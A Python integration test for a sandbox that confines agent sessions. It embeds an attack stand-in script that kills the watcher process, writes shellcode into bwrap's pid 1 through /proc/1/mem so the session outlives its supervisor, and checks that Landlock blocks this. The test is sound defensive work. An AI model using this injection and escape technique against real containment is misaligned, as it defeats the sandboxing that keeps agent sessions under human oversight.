"""A session can neither write bwrap's pid 1 through /proc/1/mem nor outlive ``record``.

The seccomp filter refuses ``ptrace`` and ``process_vm_readv``/``writev``, but not
``/proc/<pid>/mem``, which the kernel lets a process of the same uid read and write when
the target is dumpable, as bwrap's pid 1 is (and every other process of the session; no
Yama here). The stand-in (through ``record``, real bwrap, confined network) detaches a
daemon that tries to SIGKILL the lifeline watcher, opens ``/proc/1/mem`` for writing, reads
where pid 1 is blocked in ``wait4`` (``/proc/1/syscall``: its pc), writes there code that
calls ``prctl(PR_SET_PDEATHSIG, 0)`` and then reaps children until none is left, wakes
pid 1 with an orphan that exits, and lives on: the attack `tests/integration/attack_standin.py`
makes with ptrace, without it.

Rules (docs/session-reach.md "Identity and processes"): the session's Landlock domain
(`sandbox._landlock`) refuses it pid 1's memory (EACCES) and the watcher's signal (EPERM),
so no code is written; and when ``record`` returns no process of the session runs.

Seen red with ``HW_WEAKEN=no-landlock``: the open, the kill and the write succeed (the
cgroup kill still ends everything); with ``HW_WEAKEN=no-landlock,no-cgroup``: bwrap's pid 1
and the bridge's socat outlive ``record`` under the host's init.
"""

from __future__ import annotations

import errno
import json
from pathlib import Path

import pytest

from sandbox._config import sweep_config_root
from sandbox._scratch import sweep_killed_runners
from tests.integration import kit
from tests.integration.test_record_standins import PROBE, SESSION, finals, make_corpus, record

pytestmark = [pytest.mark.bwrap, pytest.mark.timeout(180)]

STANDIN = r'''#!/usr/bin/python3
"""Attack stand-in of tests/integration/test_proc_mem_attack.py (its docstring says what)."""
import json, os, signal, sys, time
STREAM = b"STREAM_BYTES"
if sys.argv[1:] == ["--version"]:
    print("0.0.0 (proc mem attack)"); sys.exit(0)
# prctl(PR_SET_PDEATHSIG, 0); then reap forever: wait4(-1, 0, 0, 0) until ECHILD, exit_group(0)
CODE = bytes.fromhex(
    "b89d000000" "bf01000000" "31f6" "0f05"
    "b83d000000" "bfffffffff" "31f6" "31d2" "4531d2" "0f05" "4883f8f6" "75e7"
    "b8e7000000" "31ff" "0f05")


def kill_watchers():
    killed = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in (1, os.getpid()):
            continue
        try:
            cmdline = open("/proc/%s/cmdline" % entry, "rb").read()
        except OSError:
            continue
        if b"headwater-init" in cmdline and b"read -r" in cmdline:
            try:
                os.kill(int(entry), signal.SIGKILL)
                killed.append(int(entry))
            except OSError as exc:
                killed.append(exc.errno)
    return killed


def inject():
    seen = {}
    fields = open("/proc/1/syscall").read().split()
    seen["pid1_in_syscall"] = fields[0]
    pc = int(fields[-1], 16)
    fd = os.open("/proc/1/mem", os.O_RDWR)
    os.pwrite(fd, CODE, pc)
    seen["code_written"] = os.pread(fd, len(CODE), pc) == CODE
    os.close(fd)
    # wake pid 1's wait4: an orphan of its own exits
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(0.3)
            os._exit(0)
        os._exit(0)
    os.wait()
    time.sleep(0.6)
    status = open("/proc/1/status").read()
    seen["pid1_state"] = [l for l in status.splitlines() if l.startswith("State")][0]
    after = open("/proc/1/syscall").read().split()
    seen["pc_before"], seen["pc_after"] = hex(pc), after[-1]
    seen["in_our_loop"] = int(after[-1], 16) == pc + 33
    return seen


ready_r, ready_w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.close(ready_r)
        report = {"watchers_killed": kill_watchers()}
        try:
            os.close(os.open("/proc/1/mem", os.O_RDWR))
            report["mem_open"] = "ok"
        except OSError as exc:
            report["mem_open"] = exc.errno
        try:
            report.update(inject())
        except OSError as exc:
            report["error"] = [exc.errno, exc.filename]
        with open("attack.json", "w") as f:
            json.dump(report, f)
        os.write(ready_w, b"x")
        os.close(ready_w)
        devnull = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        while True:  # lives on in the workspace (its cwd), touching nothing
            time.sleep(0.2)
    os._exit(0)
os.close(ready_w)
os.read(ready_r, 1)
view = memoryview(STREAM)
while view:
    view = view[os.write(1, view):]
sys.exit(0)
'''


def test_a_session_that_rewrites_pid_1_through_proc_mem_does_not_outlive_record(
        tmp_path: Path, bwrap: str) -> None:
    corpus = make_corpus(tmp_path / "corpus")
    harness = tmp_path / "claude"
    harness.write_text(STANDIN.replace('b"STREAM_BYTES"', repr(SESSION)))
    harness.chmod(0o755)
    batch = tmp_path / "b"
    try:
        run = record(corpus, batch, harness, "--post-result-grace", "2")
        left = kit.processes_under(tmp_path)  # at once: the session is over when it returns
        assert run.returncode == 0, run.stdout + run.stderr
        (final,) = finals(batch)
        workspace = batch / "sessions" / "present" / PROBE / final["session"] / "workspace"
        report = json.loads((workspace / "attack.json").read_text())
        assert left == {}, f"alive when record returned: {left} (the attack: {report})"
        assert report["mem_open"] == errno.EACCES, report
        assert report["watchers_killed"] == [errno.EPERM], report
        assert "code_written" not in report, report
    finally:
        kit.kill_all(kit.processes_under(tmp_path))
        sweep_config_root()
        sweep_killed_runners()
